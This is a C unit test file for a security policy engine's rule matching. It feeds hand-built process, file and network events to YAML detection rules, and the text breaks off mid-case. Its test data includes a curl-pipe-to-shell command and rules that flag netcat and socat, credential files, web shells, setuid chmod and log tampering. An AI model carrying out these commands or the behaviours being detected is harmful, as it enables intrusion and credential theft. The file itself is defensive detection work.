// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Unit tests of the policy engine: every field and operator, negation, lists,
 * exceptions, exclusions, rule order, defaults, rename and write semantics,
 * ancestry (through a test lineage, no process table), parse errors with
 * their positions, directory merging, counters, the normalized dump and the
 * JSON form.  Events are built by hand; no root needed.
 *
 * Most cases are rows of two tables: verdicts (a policy, then events as data
 * and the rule each must get) and errors (a policy text and a message it
 * must give).  One runner each.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <cmocka.h>
#include <json-c/json.h>
#include "addr.h"
#include "policy.h"
#include "cgpath.h"
#include "ctrmeta.h"
#include "policy_int.h"
#include "proctable.h"

/* A tiny process tree for the lineage callbacks. */
static struct proc_entry procs[8];
static size_t nprocs;

static const struct proc_entry *t_get(void *arg, uint32_t pid)
{
	for (size_t i = 0; i < nprocs; i++)
		if (procs[i].pid == pid)
			return &procs[i];
	return NULL;
}

static const struct proc_entry *t_parent(void *arg, const struct proc_entry *e)
{
	return t_get(arg, e->ppid);
}

static const struct policy_lineage lineage = { .get = t_get, .parent = t_parent };

static void add_proc(uint32_t pid, uint32_t ppid, const char *exe, const char *comm)
{
	struct proc_entry *e = &procs[nprocs++];

	memset(e, 0, sizeof(*e));
	e->pid = pid;
	e->ppid = ppid;
	e->exe = exe;
	snprintf(e->comm, sizeof(e->comm), "%s", comm);
}

/* init(1) -> nginx(10) -> sh(20) -> python3(30) */
static int setup_tree(void **state)
{
	nprocs = 0;
	add_proc(1, 0, "/usr/lib/systemd/systemd", "systemd");
	add_proc(10, 1, "/usr/sbin/nginx", "nginx");
	add_proc(20, 10, "/usr/bin/dash", "sh");
	add_proc(30, 20, "/usr/bin/python3.11", "python3");
	return 0;
}

/* Only vim(55), under init, with its command line. */
static void tree_vim(void)
{
	nprocs = 0;
	add_proc(55, 1, "/usr/bin/vim.basic", "vim");
	procs[0].argv = "vim\0/etc/hosts\0";
	procs[0].argv_len = 15;
}

/* A chain of 8 processes: root(100) <- 101 <- ... <- 107 */
static void tree_chain(void)
{
	nprocs = 0;
	add_proc(100, 1, "/usr/bin/root", "root");
	for (uint32_t i = 101; i < 108; i++)
		add_proc(i, i - 1, "/usr/bin/mid", "mid");
}

/* The chain with a loop: root's parent is 107. */
static void tree_chain_loop(void)
{
	tree_chain();
	procs[0].ppid = 107;
}

/* The other ends of stdio pipes. */
static const struct proc_entry peer_curl = { .pid = 77, .comm = "curl", .exe = "/usr/bin/curl" };
static const struct proc_entry peer_sh = { .pid = 78, .comm = "sh", .exe = "/usr/bin/dash" };

static struct policy *load(const char *text)
{
	struct policy_diag d;
	struct policy *p = NULL;
	int r;

	policy_diag_init(&d);
	r = policy_load_string("t.yaml", text, strlen(text), &p, &d);
	if (r < 0)
		policy_diag_print(&d, stderr);
	assert_int_equal(r, 0);
	policy_diag_fini(&d);
	return p;
}

/* Loads text expecting errors; returns all messages, one per line. */
static char *load_fail(const char *text)
{
	struct policy_diag d;
	struct policy *p = NULL;
	char *buf = NULL;
	size_t len = 0;
	FILE *f;

	policy_diag_init(&d);
	assert_int_equal(policy_load_string("t.yaml", text, strlen(text), &p, &d), -EINVAL);
	assert_null(p);
	f = open_memstream(&buf, &len);
	policy_diag_print(&d, f);
	fclose(f);
	policy_diag_fini(&d);
	return buf;
}

static struct sg_event ev_base(int type, uint32_t pid, const char *comm, const char *exe)
{
	struct sg_event ev;

	memset(&ev, 0, sizeof(ev));
	ev.type = type;
	ev.proc.pid = pid;
	ev.proc.tid = pid;
	ev.proc.ppid = 0;
	for (size_t i = 0; i < nprocs; i++)
		if (procs[i].pid == pid)
			ev.proc.ppid = procs[i].ppid;
	ev.proc.uid = 1000;
	ev.proc.gid = 1000;
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "%s", comm);
	ev.proc.exe = exe;
	ev.has_result = true;
	return ev;
}

static struct sg_event ev_exec(uint32_t pid, const char *exe, const char *argv, size_t argv_len)
{
	struct sg_event ev = ev_base(SG_EV_EXEC, pid, strrchr(exe, '/') + 1, exe);

	ev.exec.filename = exe;
	ev.exec.argv = argv;
	ev.exec.argv_len = argv_len;
	for (size_t i = 0; i < argv_len; i++)
		ev.exec.argc += argv[i] == '\0';
	return ev;
}

static struct sg_event ev_open(uint32_t pid, const char *path, bool write, uint32_t flags)
{
	struct sg_event ev = ev_base(SG_EV_OPEN, pid, "cat", "/usr/bin/cat");

	ev.file.path = path;
	ev.file.path_resolved = true;
	ev.file.write = write;
	ev.file.flags = flags;
	return ev;
}

static struct sg_event ev_net(int type, const char *addr, uint16_t port, int proto)
{
	struct sg_event ev = ev_base(type, 20, "sh", "/usr/bin/dash");

	if (strchr(addr, ':')) {
		ev.net.family = AF_INET6;
		inet_pton(AF_INET6, addr, ev.net.addr);
	} else {
		ev.net.family = AF_INET;
		inet_pton(AF_INET, addr, ev.net.addr);
	}
	ev.net.port = port;
	ev.net.protocol = proto;
	ev.net.sock_type = proto == IPPROTO_UDP ? SOCK_DGRAM : SOCK_STREAM;
	return ev;
}

/* The id of the rule that matched ev, or "-" for none. */
static const char *judge(const struct policy *p, struct sg_event *ev)
{
	policy_eval_lineage(p, ev, &lineage);
	return ev->verdict.rule_id ? ev->verdict.rule_id : "-";
}

static char *dump(const struct policy *p);

#define HDR "version: 1\nrules:\n"

/* ---- verdicts ------------------------------------------------------------ */

/* A value an event spec sets only when told to (0 is a value too). */
struct opt {
	bool set;
	int64_t v;
};

#define SET(x) { true, (x) }

/*
 * An event as data.  Built by ev_exec() (type 0 or exec), ev_net() (with an
 * addr), ev_open() (with a path; then given its type) or ev_base() (the
 * rest), then changed as the other members say.
 */
struct evspec {
	int type;
	uint32_t pid;
	const char *exe;         /* exec: the program; ev_base(): proc.exe */
	const char *comm;        /* ev_base(): comm; the others: replaces the builder's */
	const char *argv;        /* exec: argv_len bytes */
	size_t argv_len;
	const char *path, *new_path;
	bool write;
	uint32_t flags, mode;
	const char *addr;
	uint16_t port;
	int proto;
	const char *proc_exe, *filename;
	bool no_exe;             /* neither proc.exe nor exec.filename known */
	struct opt uid, gid, ppid, result, has_result, sock_type, family;
	const char *unix_path, *fileless, *via, *loader_target;
	bool has_stdio;
	int stdio[3];            /* enum sg_fdkind */
	const struct proc_entry *peer[3];
	uint32_t request;
	const struct proc_entry *target;
	void (*tree)(void);      /* another process tree, set up first */
	bool no_lineage;         /* judged without a lineage */
	int where;               /* enum sg_where; with ctr for a container */
	const struct ctr_info *ctr;
};

#define EXEC(pid_, exe_, argv_, len_, ...)                                                         \
	{ .pid = (pid_), .exe = (exe_), .argv = (argv_), .argv_len = (len_), __VA_ARGS__ }
/* A string literal of NUL-separated arguments and its length (its last NUL included). */
#define LIT(s) (s), (sizeof(s) - 1)
#define EXECL(pid_, exe_, lit_, ...)                                                               \
	{ .pid = (pid_), .exe = (exe_), .argv = (lit_), .argv_len = sizeof(lit_) - 1, __VA_ARGS__ }
#define OPEN(pid_, path_, ...) { .type = SG_EV_OPEN, .pid = (pid_), .path = (path_), __VA_ARGS__ }
#define FILEV(type_, path_, ...) { .type = (type_), .pid = 20, .path = (path_), __VA_ARGS__ }
#define NET(type_, addr_, port_, proto_, ...)                                                      \
	{ .type = (type_), .addr = (addr_), .port = (port_), .proto = (proto_), __VA_ARGS__ }

static struct sg_event mkev(const struct evspec *s)
{
	struct sg_event ev;

	if (s->tree)
		s->tree();
	/* what differs by type is in a union: each builder's own members only */
	if (!s->type || s->type == SG_EV_EXEC) {
		ev = ev_exec(s->pid, s->exe, s->argv, s->argv_len);
		if (s->filename)
			ev.exec.filename = s->filename;
		if (s->no_exe)
			ev.proc.exe = ev.exec.filename = NULL;
		ev.exec.fileless = s->fileless;
		ev.exec.via = s->via;
		ev.exec.loader_target = s->loader_target;
		ev.exec.has_stdio = s->has_stdio;
		for (int i = 0; i < 3; i++) {
			ev.exec.stdio[i].kind = s->stdio[i];
			ev.exec.stdio[i].peer = s->peer[i];
		}
	} else if (s->addr) {
		ev = ev_net(s->type, s->addr, s->port, s->proto);
		if (s->sock_type.set)
			ev.net.sock_type = s->sock_type.v;
		if (s->family.set)
			ev.net.family = s->family.v;
		ev.net.unix_path = s->unix_path;
	} else if (s->path) {
		ev = ev_open(s->pid, s->path, s->write, s->flags);
		ev.type = s->type;
		ev.file.new_path = s->new_path;
		ev.file.mode = s->mode;
	} else {
		ev = ev_base(s->type, s->pid, s->comm, s->exe);
		if (s->type == SG_EV_PTRACE) {
			ev.ptrace.request = s->request;
			ev.ptrace.target_entry = s->target;
		}
	}
	if (s->comm)
		snprintf(ev.proc.comm, sizeof(ev.proc.comm), "%s", s->comm);
	if (s->proc_exe)
		ev.proc.exe = s->proc_exe;
	if (s->uid.set)
		ev.proc.uid = s->uid.v;
	if (s->gid.set)
		ev.proc.gid = s->gid.v;
	if (s->ppid.set)
		ev.proc.ppid = s->ppid.v;
	if (s->result.set)
		ev.result = s->result.v;
	if (s->has_result.set)
		ev.has_result = s->has_result.v;
	ev.ctr.where = s->where;
	if (s->ctr) {
		ev.ctr.info = s->ctr;
		ev.ctr.id = s->ctr->id;
		ev.ctr.name = s->ctr->name;
		ev.ctr.image = s->ctr->image;
		ev.ctr.runtime = cgpath_runtime_name(s->ctr->runtime);
	}
	return ev;
}

/* Containers the events below run in. */
static const struct ctr_info ctr_web = {
	.runtime = CTR_RT_PODMAN, .id = "0123456789abcdef", .name = "webapp",
	.image = "localhost/shop:1", .image_id = "feed", .privileged = 0, .labels_known = true,
	.nlabels = 2, .labels = { { "app", "shop" }, { "tier", "front" } },
};
static const struct ctr_info ctr_pod = {
	.runtime = CTR_RT_CONTAINERD, .id = "fedcba9876543210", .name = "api",
	.image = "docker.io/library/nginx:1", .privileged = 1, .pod = "api-7d9",
	.pod_namespace = "prod", .k8s_container = "nginx",
};

/* One event and the verdict it must get. */
struct judgement {
	struct evspec ev;
	const char *want;           /* the rule's id, "-" for none */
	enum sg_action action;      /* SG_ACT_NONE: not checked */
	enum sg_severity severity;  /* SG_SEV_NONE: not checked */
};

/* A policy and what it says of events, in order (the counters see all of them). */
struct vcase {
	const char *name;
	const char *policy;
	struct judgement j[20];     /* up to the first without .want */
	bool stats;                 /* the counters after them must be st */
	struct policy_stats st;
	uint64_t dedup_window_ns;   /* 0: not checked */
};

static const char argv_curl[] = "sh\0-c\0curl -s http://x | sh\0";
static const char argv_chmod[] = "chmod\0u+s\0/tmp/x\0";
static const char argv_sh_i[] = "sh\0-i";

static const struct vcase vcases[] = {
{
	.name = "containers",
	.policy = HDR
		"  - {id: web, events: [exec], match: {container.name: webapp, container.labels.tier:"
		" front}, action: alert}\n"
		"  - {id: label, events: [exec], match: {container.labels.app: {prefix: sh}}, "
		"action: log}\n"
		"  - {id: pod, events: [exec], match: {k8s.namespace: prod, k8s.container: nginx, "
		"container.privileged: true, container.runtime: containerd}, action: alert}\n"
		"  - {id: host, events: [exec], match: {container.host: true}, action: log}\n"
		"  - {id: in, events: [exec], match: {container.host: false, container.image: "
		"{suffix: ':2'}}, action: log}\n"
		"  - {id: any, events: [exec], match: {container.id: {prefix: 0123}}, action: log}\n",
	.j = {
		{ EXEC(20, "/bin/sh", "sh", 3, .where = SG_WHERE_CONTAINER, .ctr = &ctr_web), "web" },
		{ EXEC(20, "/bin/sh", "sh", 3, .where = SG_WHERE_CONTAINER, .ctr = &ctr_pod), "pod" },
		{ EXEC(20, "/bin/sh", "sh", 3, .where = SG_WHERE_HOST), "host" },
		/* pending: neither on the host nor in a container the rules name */
		{ EXEC(20, "/bin/sh", "sh", 3, .where = SG_WHERE_PENDING), "-" },
		{ EXEC(20, "/bin/sh", "sh", 3), "-" },
	},
},
{
	.name = "string_ops",
	.policy = HDR
		"  - {id: in, events: [open], match: {file.path: /etc/shadow}, action: alert}\n"
		"  - {id: pre, events: [open], match: {file.path: {prefix: /etc/cron}}, action: alert}\n"
		"  - {id: suf, events: [open], match: {file.path: {suffix: [.pem, .key]}}, "
		"action: alert}\n"
		"  - {id: con, events: [open], match: {file.path: {contains: /.ssh/}}, action: alert}\n"
		"  - {id: gl1, events: [open], match: {file.path: {glob: '/home/*/.aws/cred*'}}, "
		"action: alert}\n"
		"  - {id: gl2, events: [open], match: {file.path: {glob: ['/srv/*', '*.bak', '*tmp*', "
		"'/x/?', /exact]}}, action: alert}\n"
		"  - {id: name, events: [open], match: {file.name: .bashrc}, action: alert}\n"
		"  - {id: one, events: [open], match: {file.path: {glob: '/u/caf?'}}, action: alert}\n",
	.j = {
		{ OPEN(20, "/etc/shadow"), "in" },
		{ OPEN(20, "/etc/shadowx"), "-" },
		{ OPEN(20, "/etc/cron.d/job", .write = true, .flags = O_WRONLY), "pre" },
		{ OPEN(20, "/tmp/a.key"), "suf" },
		{ OPEN(20, "/home/a/.ssh/id_rsa"), "con" },
		{ OPEN(20, "/home/bob/.aws/credentials"), "gl1" },
		{ OPEN(20, "/srv/a/b"), "gl2" },
		{ OPEN(20, "/var/db.bak"), "gl2" },
		{ OPEN(20, "/var/xtmpy"), "gl2" },
		{ OPEN(20, "/x/y"), "gl2" },
		{ OPEN(20, "/x/yy"), "-" },
		{ OPEN(20, "/exact"), "gl2" },
		{ OPEN(20, "/home/u/.bashrc"), "name" },
		/* '?' is one character, also beyond ASCII; bytes where not UTF-8 */
		{ OPEN(20, "/u/caf\xc3\xa9"), "one" },
		{ OPEN(20, "/u/cafxx"), "-" },
		{ OPEN(20, "/u/caf\xff"), "one" },
	},
},
{
	/* nocase: values folded once, the subject at match time; ASCII and UTF-8 */
	.name = "nocase",
	.policy = HDR
		"  - {id: con, events: [exec], match: {proc.argv: {contains: Exploit, nocase: true}}, "
		"action: alert}\n"
		"  - {id: arg, events: [exec], match: {proc.argv: {arg: [-Version], nocase: true}}, "
		"action: alert}\n"
		"  - {id: utf8, events: [exec], match: {proc.argv: {contains: 'ÉTÉ', nocase: true}}, "
		"action: alert}\n"
		"  - {id: rei, events: [exec], match: {proc.argv: {re: '(?i)^CURL .*--UPLOAD'}}, "
		"action: alert}\n"
		"  - {id: reu, events: [exec], match: {proc.argv: {re: '(?i)straße[0-9]'}}, "
		"action: alert}\n"
		"  - {id: cased, events: [exec], match: {proc.argv: {contains: Secret}}, "
		"action: alert}\n"
		"  - {id: in, events: [open], match: {file.path: {in: [/ETC/Passwd], nocase: true}}, "
		"action: alert}\n"
		"  - {id: glob, events: [open], match: {file.path: {glob: '/Home/*/.BASH_history', "
		"nocase: true}}, action: alert}\n"
		"  - {id: pre, events: [open], match: {file.path: {nocase: true, prefix: /Data/, "
		"not: [/data/ok]}}, action: log}\n"
		"  - {id: nam, events: [exec], match: {proc.name: {suffix: .EXE, nocase: true}}, "
		"action: log}\n",
	.j = {
		{ EXECL(99, "/usr/bin/git", "git\0clone\0https://x/Log4Shell-EXPLOIT\0"), "con" },
		{ EXECL(99, "/usr/bin/git", "git\0clone\0https://x/exploit\0"), "con" },
		{ EXECL(99, "/usr/bin/pwsh", "pwsh\0-VERSION\0"), "arg" },
		/* a whole argument: -versionx is not -version */
		{ EXECL(99, "/usr/bin/pwsh", "pwsh\0-versionx\0"), "-" },
		{ EXECL(99, "/usr/bin/echo", "echo\0\xc3\xa9t\xc3\xa9\0"), "utf8" },
		{ EXECL(99, "/usr/bin/curl", "curl\0-T\0--upload-file\0"), "rei" },
		{ EXECL(99, "/usr/bin/echo", "echo\0STRASSE1\0"), "-" },
		{ EXECL(99, "/usr/bin/echo", "echo\0STRAßE1\0"), "reu" },
		/* without nocase the case counts */
		{ EXECL(99, "/usr/bin/echo", "echo\0Secret\0"), "cased" },
		{ EXECL(99, "/usr/bin/echo", "echo\0SECRET\0"), "-" },
		{ OPEN(20, "/etc/passwd"), "in" },
		{ OPEN(20, "/etc/passwdx"), "-" },
		{ OPEN(20, "/home/bob/.bash_HISTORY"), "glob" },
		{ OPEN(20, "/DATA/x"), "pre" },
		/* 'not' inside a nocase mapping is nocase too */
		{ OPEN(20, "/DATA/OK"), "-" },
		{ EXECL(99, "/opt/x/SETUP.exe", "x\0"), "nam" },
	},
},
{
	/* proc.user: the uid's name from this host's passwd database, cached */
	.name = "proc_user",
	.policy = HDR
		"  - {id: root, events: [exec], match: {proc.user: root}, action: alert}\n"
		"  - {id: named, events: [exec], match: {proc.user: {glob: '*'}}, action: log}\n",
	.j = {
		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(0)), "root" },
		/* again: from the cache */
		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(0)), "root" },
		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(65534)), "named" },
		/* a uid without a name has no proc.user */
		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(4000000000u)), "-" },
	},
},
{
	/* file.target: what a call makes or writes; a rename's new name */
	.name = "file_target",
	.policy = HDR
		"  - {id: made, events: [write, rename, unlink], match: {file.target: {prefix: "
		"/etc/cron.d/}}, action: alert}\n",
	.j = {
		{ OPEN(20, "/etc/cron.d/job", .write = true, .flags = O_WRONLY), "made" },
		{ FILEV(SG_EV_RENAME, "/tmp/job", .new_path = "/etc/cron.d/job"), "made" },
		{ FILEV(SG_EV_RENAME, "/etc/cron.d/job", .new_path = "/tmp/job"), "-" },
		{ FILEV(SG_EV_UNLINK, "/etc/cron.d/job"), "made" },
	},
},
{
	.name = "proc_fields",
	.policy = HDR
		"  - {id: exe, events: [exec], match: {proc.exe: /usr/bin/nc.openbsd}, action: alert}\n"
		"  - {id: comm, events: [exec], match: {proc.comm: [ncat]}, action: alert}\n"
		"  - {id: name, events: [exec], match: {proc.name: socat}, action: alert}\n"
		"  - {id: uid, events: [exec], match: {proc.uid: [0, 5-9]}, action: alert}\n"
		"  - {id: gid, events: [exec], match: {proc.gid: 42}, action: alert}\n"
		"  - {id: pid, events: [exec], match: {proc.pid: 777}, action: alert}\n"
		"  - {id: ppid, events: [exec], match: {proc.ppid: 10}, action: alert}\n",
	.j = {
		{ EXEC(99, "/usr/bin/nc.openbsd", "nc\0", 3), "exe" },
		{ EXEC(99, "/usr/bin/ncat", "ncat\0", 5), "comm" },
		{ EXEC(99, "/usr/bin/socat", "x\0", 2), "name" },
		/* proc.name falls back on comm when the exe is unknown */
		{ EXEC(99, "/usr/bin/other", "x\0", 2, .no_exe = true, .comm = "socat"), "name" },
		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(7)), "uid" },
		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(10)), "-" },
		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(0)), "uid" },
		{ EXEC(99, "/usr/bin/true", "x\0", 2, .gid = SET(42)), "gid" },
		{ EXEC(777, "/usr/bin/true", "x\0", 2), "pid" },
		{ EXEC(778, "/usr/bin/true", "x\0", 2, .ppid = SET(10)), "ppid" },
	},
},
{
	.name = "argv",
	.policy = HDR
		"  - {id: pipe, events: [exec], match: {proc.argv: {arg: -c, contains: '| sh'}}, "
		"action: alert}\n"
		"  - {id: suid, events: [exec], match: {proc.argv: [u+s, '4755']}, action: alert}\n"
		"  - {id: glob, events: [exec], match: {proc.argv: {glob: 'python* -c *'}}, "
		"action: alert}\n"
		"  - {id: whole, events: [exec], match: {proc.argv: {in: 'ls -la'}}, action: log}\n"
		"  - {id: entry, events: [open], match: {proc.argv: {prefix: 'vim '}}, action: log}\n",
	.j = {
		{ EXEC(99, "/usr/bin/dash", argv_curl, sizeof(argv_curl) - 1), "pipe" },
		{ EXEC(99, "/usr/bin/chmod", argv_chmod, sizeof(argv_chmod) - 1), "suid" },
		{ EXEC(99, "/usr/bin/python3.11", "python3\0-c\0print(1)\0", 21), "glob" },
		{ EXEC(99, "/usr/bin/ls", "ls\0-la\0", 7), "whole" },
		/* "u+s" is a whole argument: "au+s" is not */
		{ EXEC(99, "/usr/bin/echo", "echo\0au+s\0", 10), "-" },
		/* no argv at all: nothing matches */
		{ EXEC(99, "/usr/bin/echo", NULL, 0), "-" },
		/* other events take argv from the process entry */
		{ OPEN(55, "/etc/hosts", .tree = tree_vim), "entry" },
	},
},
{
	.name = "negation_and_ancestry",
	.policy = HDR
		"  - id: web-shell\n"
		"    events: [exec]\n"
		"    match:\n"
		"      proc.name: [sh, dash, bash]\n"
		"      ancestor.name: [nginx, apache2]\n"
		"    action: alert\n"
		"  - id: py-under-sh\n"
		"    events: [exec]\n"
		"    match: {proc.name: {prefix: python}, parent.comm: sh, parent.exe: /usr/bin/dash}\n"
		"    action: alert\n"
		"  - id: not-systemd\n"
		"    events: [exec]\n"
		"    match: {proc.name: cron, parent.name: {not: systemd}}\n"
		"    action: alert\n"
		"  - id: no-anc\n"
		"    events: [exec]\n"
		"    match: {proc.name: vi, ancestor.exe: {not: {prefix: /usr/sbin/}}}\n"
		"    action: alert\n"
		"  - id: not-prefix\n"
		"    events: [open]\n"
		"    match: {file.path: {prefix: /etc/, not: {prefix: [/etc/ssl/, /etc/ld.so]}}}\n"
		"    action: log\n",
	.j = {
		{ EXEC(20, "/usr/bin/dash", "sh\0", 3), "web-shell" },
		{ EXEC(30, "/usr/bin/python3.11", "python3\0", 8), "py-under-sh" },
		/* cron's parent is nginx (10): not systemd */
		{ EXEC(11, "/usr/sbin/cron", "cron\0", 5, .ppid = SET(10)), "not-systemd" },
		{ EXEC(11, "/usr/sbin/cron", "cron\0", 5, .ppid = SET(1)), "-" },
		/* vi under nginx: some ancestor is under /usr/sbin/ */
		{ EXEC(30, "/usr/bin/vi", "vi\0", 3), "-" },
		/* vi whose ancestors are unknown: no ancestor is under /usr/sbin/ */
		{ EXEC(999, "/usr/bin/vi", "vi\0", 3, .ppid = SET(998)), "no-anc" },
		{ OPEN(20, "/etc/passwd"), "not-prefix" },
		{ OPEN(20, "/etc/ssl/certs/x"), "-" },
		{ OPEN(20, "/etc/ld.so.cache"), "-" },
		/* without a lineage, parents are unknown */
		{ EXEC(20, "/usr/bin/dash", "sh\0", 3, .no_lineage = true), "-" },
	},
},
{
	.name = "ancestor_depth",
	.policy = HDR
		"  - {id: deep, events: [exec], match: {ancestor.comm: root}, action: alert}\n",
	.j = {
		{ EXEC(107, "/usr/bin/x", "x\0", 2, .tree = tree_chain), "deep" },
		/* a loop in the table ends the walk */
		{ EXEC(50, "/usr/bin/x", "x\0", 2, .ppid = SET(103), .tree = tree_chain_loop),
		  "deep" },
	},
},
{
	.name = "match_any",
	.policy = HDR
		"  - id: tmp-exec\n"
		"    events: [exec]\n"
		"    match:\n"
		"      - proc.exe: {prefix: [/tmp/, /dev/shm/]}\n"
		"      - exec.filename: {prefix: [/tmp/, /dev/shm/]}\n"
		"    action: alert\n"
		"  - id: suid\n"
		"    events: [exec]\n"
		"    match: {proc.name: chmod, proc.argv: {arg: ['*+*s*', '[2467][0-7][0-7][0-7]']}}\n"
		"    action: alert\n",
	.j = {
		{ EXEC(20, "/tmp/xmrig", "xmrig\0", 6), "tmp-exec" },
		/* a script: the exe is the interpreter, the filename is the script */
		{ EXEC(20, "/usr/bin/dash", "sh\0", 3, .filename = "/dev/shm/x.sh"), "tmp-exec" },
		{ EXEC(20, "/usr/bin/dash", "sh\0", 3, .filename = "/usr/local/bin/x.sh"), "-" },
		{ EXEC(20, "/usr/bin/chmod", "chmod\0u+xs\0/tmp/x\0", 17), "suid" },
		{ EXEC(20, "/usr/bin/chmod", "chmod\0" "4755\0/tmp/x\0", 17), "suid" },
		{ EXEC(20, "/usr/bin/chmod", "chmod\0" "0755\0/tmp/x\0", 17), "-" },
		{ EXEC(20, "/usr/bin/chmod", "chmod\0u+x\0/tmp/x\0", 16), "-" },
	},
},
{
	.name = "lists",
	.policy = "version: 1\n"
		"lists:\n"
		"  shells: [/usr/bin/bash, /usr/bin/dash]\n"
		"  more: [/usr/bin/zsh]\n"
		"rules:\n"
		"  - {id: a, events: [exec], match: {proc.exe: {in: [$shells, $more]}}, action: alert}\n"
		"  - {id: b, events: [exec], match: {proc.exe: $$literal}, action: alert}\n",
	.j = {
		{ EXEC(20, "/usr/bin/zsh", "zsh\0", 4), "a" },
		{ EXEC(20, "/usr/bin/dash", "sh\0", 3), "a" },
		{ EXEC(20, "/usr/bin/fish", "fish\0", 5), "-" },
		{ EXEC(20, "/x/$literal", "x\0", 2, .proc_exe = "$literal"), "b" },
	},
},
{
	.name = "exceptions_order_defaults",
	.policy = "version: 1\n"
		"defaults: {action: allow, severity: low}\n"
		"rules:\n"
		"  - id: cron\n"
		"    events: [write, rename]\n"
		"    match: {file.path: {prefix: /etc/cron}}\n"
		"    except:\n"
		"      - proc.exe: /usr/bin/crontab\n"
		"      - {proc.uid: 0, proc.comm: ansible}\n"
		"    action: alert\n"
		"    severity: high\n"
		"  - {id: second, events: [open], match: {file.path: {prefix: /etc/}}, action: log}\n"
		"  - {id: off, events: [open], match: {file.path: /x}, action: alert, "
		"enabled: false}\n"
		"  - {id: nosev, events: [open], match: {file.path: /y}, action: alert}\n",
	.j = {
		{ OPEN(20, "/etc/cron.d/x", .write = true, .flags = O_WRONLY), "cron", SG_ACT_ALERT,
		  SG_SEV_HIGH },
		/* an exception: the next rule in order gets it */
		{ OPEN(20, "/etc/cron.d/x", .write = true, .flags = O_WRONLY,
		       .proc_exe = "/usr/bin/crontab"), "second", SG_ACT_LOG },
		/* an exception with two conditions needs both */
		{ OPEN(20, "/etc/cron.d/x", .write = true, .flags = O_WRONLY, .comm = "ansible"),
		  "cron" },
		{ OPEN(20, "/etc/cron.d/x", .write = true, .flags = O_WRONLY, .comm = "ansible",
		       .uid = SET(0)), "second" },
		/* reading is not 'write' */
		{ OPEN(20, "/etc/cron.d/x"), "second" },
		/* disabled rules never match; unmatched events get the defaults */
		{ OPEN(20, "/x"), "-", SG_ACT_ALLOW, SG_SEV_LOW },
		/* a rule without a severity takes the default one */
		{ OPEN(20, "/y"), "nosev", .severity = SG_SEV_LOW },
	},
},
{
	/* the built-in defaults: log, info, 2 s */
	.name = "builtin_defaults",
	.policy = "version: 1\n",
	.j = {
		{ OPEN(20, "/x", .no_lineage = true), "-", SG_ACT_LOG, SG_SEV_INFO },
		/* non-kernel types are always logged */
		{ FILEV(SG_EV_MARK, "/x", .no_lineage = true), "-", SG_ACT_LOG },
	},
	.dedup_window_ns = 2000000000ull,
},
{
	.name = "allow_and_exclude",
	.policy = "version: 1\n"
		"exclude:\n"
		"  - {proc.comm: [systemd-journal, rsyslogd], event: [open, write]}\n"
		"  - {file.path: {prefix: /proc/}}\n"
		"rules:\n"
		"  - {id: quiet, events: [open], match: {proc.comm: updatedb}, action: allow}\n"
		"  - {id: all, events: [open, exec], action: alert}\n",
	.j = {
		{ OPEN(20, "/var/log/syslog", .write = true, .flags = O_WRONLY, .comm = "rsyslogd"),
		  "-", SG_ACT_ALLOW },
		/* the exclusion names open events only */
		{ EXEC(20, "/usr/sbin/rsyslogd", "rsyslogd\0", 9), "all" },
		{ OPEN(20, "/proc/self/stat"), "-", SG_ACT_ALLOW },
		{ OPEN(20, "/etc/x", .comm = "updatedb"), "quiet", SG_ACT_ALLOW },
		{ OPEN(20, "/etc/x"), "all" },
	},
	.stats = true,
	.st = { .evaluated = 5, .excluded = 2, .defaulted = 0 },
},
{
	.name = "files",
	.policy = HDR
		"  - {id: hist, events: [rename, unlink], match: {file.name: .bash_history}, "
		"action: alert}\n"
		"  - {id: into, events: [rename], match: {file.new_path: {prefix: /etc/cron.d/}}, "
		"action: alert}\n"
		"  - {id: either, events: [rename], match: {file.path: {prefix: /etc/systemd/}}, "
		"action: alert}\n"
		"  - {id: trunc, events: [open], match: {file.path: {prefix: /var/log/}, "
		"file.trunc: true}, action: alert}\n"
		"  - {id: ro, events: [open], match: {file.path: /etc/shadow, file.write: false}, "
		"action: alert}\n"
		"  - {id: anyopen, events: [open], match: {file.path: /etc/shadow}, action: log}\n",
	.j = {
		{ FILEV(SG_EV_UNLINK, "/home/u/.bash_history"), "hist" },
		{ FILEV(SG_EV_RENAME, "/home/u/.bash_history", .new_path = "/tmp/x"), "hist" },
		{ FILEV(SG_EV_RENAME, "/tmp/job", .new_path = "/etc/cron.d/job"), "into" },
		/* the old path alone is not file.new_path */
		{ FILEV(SG_EV_RENAME, "/etc/cron.d/job", .new_path = "/tmp/job"), "-" },
		/* file.path on a rename: the old or the new path */
		{ FILEV(SG_EV_RENAME, "/tmp/unit", .new_path = "/etc/systemd/system/evil.service"),
		  "either" },
		{ FILEV(SG_EV_RENAME, "/etc/systemd/system/evil.service", .new_path = "/tmp/unit"),
		  "either" },
		{ OPEN(20, "/var/log/auth.log", .write = true, .flags = O_WRONLY | O_TRUNC), "trunc" },
		{ OPEN(20, "/var/log/auth.log", .write = true, .flags = O_WRONLY | O_APPEND), "-" },
		{ OPEN(20, "/etc/shadow"), "ro" },
		{ OPEN(20, "/etc/shadow", .write = true), "anyopen" },
	},
},
{
	.name = "chmod",
	.policy = HDR
		"  - {id: suid, events: [chmod], match: [{file.setuid: true, file.path: {prefix: /tmp/}},"
		" {file.setgid: true, file.path: {prefix: /tmp/}}], action: alert}\n"
		"  - {id: exact, events: [chmod], match: {file.mode: 511, file.name: x}, action: alert}\n"
		"  - {id: exe, events: [chmod], match: {file.exec: true, file.path: {prefix: /dev/shm/}},"
		" action: log}\n",
	.j = {
		{ FILEV(SG_EV_CHMOD, "/tmp/a", .mode = 04755), "suid" },
		{ FILEV(SG_EV_CHMOD, "/tmp/a", .mode = 02755), "suid" },
		{ FILEV(SG_EV_CHMOD, "/tmp/a", .mode = 0755), "-" },
